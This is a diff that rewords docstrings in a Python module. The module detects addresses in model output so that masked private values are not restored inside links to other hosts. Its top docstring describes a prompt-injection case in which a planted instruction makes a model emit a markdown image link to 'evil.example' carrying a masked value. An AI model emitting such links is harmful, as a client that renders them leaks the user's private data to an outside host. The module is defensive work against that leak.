@@ -1,11 +1,12 @@
-"""Addresses in a text: the contents of a URL, a link target or an HTML attribute may leave.
+"""Finds addresses in a text, because a URL, a link target or an HTML attribute may carry its
+contents to another host.
 
 An instruction planted in a document can make a model answer `![x](http://evil.example/?[ID_KXWQ])`.
-A client that renders this sends the query to that host, so no masked value is put back there.
+A client that renders this sends the query to that host, so no masked value is restored there.
 
-Four readers go through the text side by side; a place lies in an address if one of them says so.
-Each covers more than any one renderer would take for an address, never less. What they say of a
-place depends on the text before it alone, never on the pieces in which the text arrived.
+Four readers process the text in parallel; a position is in an address if one of them says so. Each
+covers at least what any renderer takes for an address. The result for a position depends only on
+the text before it, never on how the text arrived in pieces.
 """
 
 from __future__ import annotations
@@ -16,7 +17,8 @@ from enum import Enum, auto
 from typing import Final
 
 MAX_HEAD = 2000
-"""Code points of an address that are compared with the listed hosts; a longer one is not listed."""
+"""Most code points of an address that is compared with the listed hosts; longer ones never
+match."""
 
 UNREAD = 256
 """Code points that may be unread; the stream machine keeps more (`stream_machine.CONTEXT`)."""
@@ -50,7 +52,7 @@ class _Reader:
         self.head = ""
 
     def read(self, text: str, base: int, to: int) -> None:
-        """On to the position `to`. `text` begins at `base`."""
+        """Reads on to the position `to`. `text` begins at `base`."""
         while self.at < to and self._step(text, base, to):
             pass
         if self.begun is not None and len(self.head) <= MAX_HEAD:
@@ -58,7 +60,7 @@ class _Reader:
             self._headed = to
 
     def skip(self, to: int) -> None:
-        """Something else is put in the place of the text up to here."""
+        """The text up to this position is replaced by something else."""
         self.at = max(self.at, to)
 
     @property
@@ -261,7 +263,7 @@ _LONGEST_ELEMENT: Final = 10
 
 
 class _Elements(_Reader):
-    """HTML elements whose text is no text: programs, styles and what a form sends."""
+    """HTML elements whose contents are not shown as text: scripts, styles and form fields."""
 
     __slots__ = ("_end",)
     _end: re.Pattern[str]
@@ -288,7 +290,7 @@ _ADDRESS: Final = re.compile(
 
 
 class AddressReader:
-    """Says of places of one text, in order, whether they lie in an address."""
+    """Tells for positions of one text, in ascending order, whether they are in an address."""
 
     __slots__ = ("_at", "_readers")
 
@@ -318,7 +320,7 @@ class AddressReader:
             reader.skip(to)
 
     def inside(self, hosts: Sequence[str] = ()) -> bool:
-        """Whether the place lies in an address of another host than these."""
+        """Whether the position is in an address of a host other than these."""
         open_ = [reader for reader in self._readers if reader.inside]
         return not all(_is_listed(reader.head, hosts) for reader in open_)
 
